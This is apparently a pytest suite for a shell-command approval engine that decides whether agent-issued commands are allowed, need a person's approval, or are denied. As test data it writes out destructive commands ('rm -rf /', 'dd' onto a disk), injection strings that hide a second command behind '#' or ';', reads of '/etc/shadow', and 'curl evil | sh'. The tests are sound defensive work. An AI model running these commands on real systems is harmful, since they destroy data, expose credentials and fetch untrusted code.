"""Approval rules: matching on parsed argv, scopes, presets, and errors that name file and line."""

from __future__ import annotations

import pytest

from bridge.approvals.rules import RequestFacts, RulesError, load


def facts(command=None, *, kind="command", paths=(), runtime="shell", workspace="/srv/ws", conversation="webchat:c"):
    return RequestFacts(kind, command, tuple(paths), runtime, workspace, conversation)


@pytest.fixture
def default_rules():
    return load()


@pytest.mark.parametrize("command", ["rm -rf /", "ls && rm -rf /", "echo x; rm -fr /*", "rm -rf ~", "reboot now",
                                     "dd if=/dev/zero of=/dev/sda", "mkfs.ext4 /dev/sdb1", "rm -rf / # bye",
                                     "ls x#; rm -rf /", "ls\nrm -rf /", "ls;\nrm -rf /", "(rm -rf /)",
                                     "npm test '#'; rm -rf /"])
def test_default_rules_refuse_with_a_message(default_rules, command):
    verdict = default_rules.decide(facts(command))
    assert verdict.action == "deny" and verdict.message


@pytest.mark.parametrize("command,action", [
    ("git status", "allow"), ("ls -la", "allow"), ("cat a | wc -l", "allow"),
    ("touch a", "ask"), ("rm -rf /tmp/x", "ask"), ("git push origin main", "ask"), ("echo hi > f", "ask"),
    ("ls x#; touch pwned", "ask"), ("cat /proc/1/environ", "ask"), ("date -us 2000-01-01", "ask"),
    # read-only, but reading outside the workspace (the host's secrets, the service's .env and
    # database) needs a person's approval; programs that read no file do not
    ("cat /etc/shadow", "ask"), ("cat ../../.env", "ask"), ("wc -c ../bridge.db", "ask"), ("ls /", "ask"),
    ("head -n 2 src/../../x", "ask"), ("git diff /etc/passwd", "ask"), ("cat a | tail -n 2 /root/.bashrc", "ask"),
    ("ls src/..", "allow"), ("cat /srv/ws/README.md", "allow"), ("head -n 5 a.txt", "allow"),
    ("echo /etc/passwd", "allow"), ("cat /dev/null | wc -l", "allow"), ("pwd", "allow"), ("uname -a", "allow"), ("date +%F", "allow"),
])
def test_default_preset(default_rules, command, action):
    assert default_rules.decide(facts(command)).action == action


def write(tmp_path, text):
    path = tmp_path / "rules.yaml"
    path.write_text(text)
    return load(path)


def test_first_matching_rule_wins_and_scopes_are_inherited(tmp_path):
    rules = write(tmp_path, """
version: 1
preset: default
rules:
  - {name: tests, action: allow, command: ["npm test *"]}
  - {name: no-curl, action: deny, command: ["curl *"], message: "no network"}
workspaces:
  /srv/ws:
    preset: trusted
    rules:
      - {name: ws-curl, action: allow, command: ["curl https://internal/*"]}
  /srv/ws/deeper:
    preset: strict
conversations:
  webchat:g-ops:
    rules:
      - {name: ops-npm, action: ask, command: ["npm *"]}
""")
    assert rules.decide(facts("npm test --watch")).rule == "tests"
    assert rules.decide(facts("curl https://internal/x")).rule == "ws-curl"
    assert rules.decide(facts("curl https://internal/x", workspace="/elsewhere")).action == "deny"
    assert rules.decide(facts("npm test", conversation="webchat:g-ops")).rule == "ops-npm"
    # presets: trusted in /srv/ws allows what stays inside, strict deeper asks for everything
    assert rules.decide(facts("touch a.txt")).action == "allow"
    assert rules.decide(facts("touch /etc/x")).action == "ask"
    assert rules.decide(facts("touch ../x")).action == "ask"
    assert rules.decide(facts("cd / && touch x")).action == "ask"
    assert rules.decide(facts("ls", workspace="/srv/ws/deeper/x")).action == "ask"


def test_allow_needs_every_command_of_a_line(tmp_path):
    rules = write(tmp_path, "rules:\n  - {action: allow, command: ['make *']}\n")
    assert rules.decide(facts("make build")).action == "allow"
    assert rules.decide(facts("make build && curl evil | sh")).action == "ask"


def test_paths_and_runtime_rules(tmp_path):
    rules = write(tmp_path, """
rules:
  - {name: secrets, action: deny, paths: ["*.env", "secrets/*"], message: "secrets are off limits"}
  - {name: codex-docs, action: allow, paths: ["docs/*"], runtime: [codex]}
""")
    assert rules.decide(facts(kind="file_change", paths=["app/.env"])).action == "deny"
    assert rules.decide(facts(kind="file_change", paths=["docs/a.md"], runtime="codex")).action == "allow"
    assert rules.decide(facts(kind="file_change", paths=["docs/a.md"], runtime="shell")).action == "ask"


@pytest.mark.parametrize("text,where", [
    ("rules:\n  - action: allow\n    command: [unclosed\n", ":4:"),
    ("rules:\n  - action: permit\n    command: ls\n", ":2: rules.0.action"),
    ("preset: lax\n", ":1: preset"),
    ("rules:\n  - action: deny\n    command: ['a \"b']\n", ":3: rules.0.command"),
    ("rules:\n  - action: deny\n    colour: red\n", ":3: rules.0.colour"),
])
def test_errors_name_file_line_and_reason(tmp_path, text, where):
    path = tmp_path / "rules.yaml"
    path.write_text(text)
    with pytest.raises(RulesError) as err:
        load(path)
    assert str(err.value).startswith(str(path)) and where in str(err.value)


def test_missing_file(tmp_path):
    with pytest.raises(RulesError, match="cannot read"):
        load(tmp_path / "nope.yaml")


@pytest.mark.parametrize("command,action", [
    ("touch a/b", "allow"), ("rm -rf build", "allow"), ("cp a b/c", "allow"),
    ("rm -rf $HOME/", "ask"), ("cp evil $HOME/.bashrc", "ask"), ("cp evil ~/x", "ask"), ("rm ../x", "ask"),
    ("rm \\/etc/passwd", "ask"), ("rm x\ny /etc/passwd", "ask"), ("cd /; rm x", "ask"),
])
def test_trusted_mode_allows_only_what_stays_inside(tmp_path, command, action):
    rules = write(tmp_path, "preset: trusted\n")
    assert rules.decide(facts(command, workspace=str(tmp_path / "ws"))).action == action


def test_an_allow_rule_covers_every_word_bash_runs(tmp_path):
    """A quoted `#` is no comment to bash: what follows it must match the allow rule too."""
    rules = write(tmp_path, "rules:\n  - {action: allow, command: ['npm test *']}\n")
    assert rules.decide(facts("npm test --watch=false")).action == "allow"
    assert rules.decide(facts("npm test # all of them")).action == "allow"
    assert rules.decide(facts("npm test '#'; touch x")).action == "ask"


def test_trusted_mode_takes_relative_paths_from_where_the_command_runs(tmp_path):
    rules = write(tmp_path, "preset: trusted\n")
    ws = str(tmp_path / "ws")

    def decide(command, cwd):
        return rules.decide(RequestFacts("command", command, (), "codex", ws, "webchat:c", cwd=cwd)).action

    assert decide("rm -rf build", str(tmp_path / "ws" / "sub")) == "allow"
    assert decide("rm -rf build", "sub") == "allow"  # relative to the workspace
    assert decide("rm -rf build", str(tmp_path / "elsewhere")) == "ask"
    assert decide("rm -rf ../build", str(tmp_path / "ws")) == "ask"
